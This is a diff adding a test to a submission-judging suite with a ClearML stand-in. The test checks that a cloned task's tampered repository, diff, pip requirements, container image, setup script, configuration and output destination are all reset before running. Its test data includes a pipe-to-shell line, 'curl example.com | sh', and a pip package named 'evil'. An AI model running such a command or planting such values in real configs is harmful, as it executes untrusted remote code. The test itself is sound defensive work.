@@ -19,7 +19,7 @@ from submit.inbox import open_inbox
 from submit.inbox.health import Health
 from submit.judging import Outcome
 from submit.ledger import verify
-from tests.desks import clearml_desk_in, command, environment
+from tests.desks import CLONED_FROM, clearml_desk_in, command, environment
 from tests.standins.clearml import ClearML
 
 KIND = "count_starts"
@@ -166,6 +166,29 @@ def test_a_failed_task_that_is_refused_can_be_edited_at_once(desk: Desk, clearml
     looked(desk)
     assert [one.run and one.run.engine_id for one in standing.all_standing(desk)] == [id]
     assert clearml_server.tasks[id].get("started") is None
+
+
+def test_what_a_clone_says_of_code_and_container_is_not_what_runs(
+    desk: Desk, clearml_server: ClearML, page: Page
+) -> None:
+    id = page.clones(template(clearml_server), good(desk))
+    page.call("tasks.dequeue", task=id)
+    page.call(
+        "tasks.edit",
+        task=id,
+        script={"repository": "https://example.com/mine.git", "diff": "+import os", "requirements": {"pip": "evil"}},
+        container={"image": "mine", "setup_shell_script": "curl example.com | sh"},
+        configuration={"slip": {"name": "slip", "value": "kind: other"}},
+        output_dest="s3://mine",
+    )
+    page.enqueues(id)
+    looked(desk)
+    task = clearml_server.tasks[id]
+    assert (task["script"]["repository"], task["script"]["diff"]) == (CLONED_FROM, "")
+    assert "evil" not in task["script"]["requirements"]["pip"]
+    assert task["container"] == {"image": "", "arguments": "", "setup_shell_script": ""}
+    assert "\nkind: count_starts\n" in task["configuration"]["slip"]["value"]
+    assert task["output"]["destination"] == ""
 
 
 def test_whom_no_rule_allows_is_told_so(desk: Desk, clearml_server: ClearML) -> None:
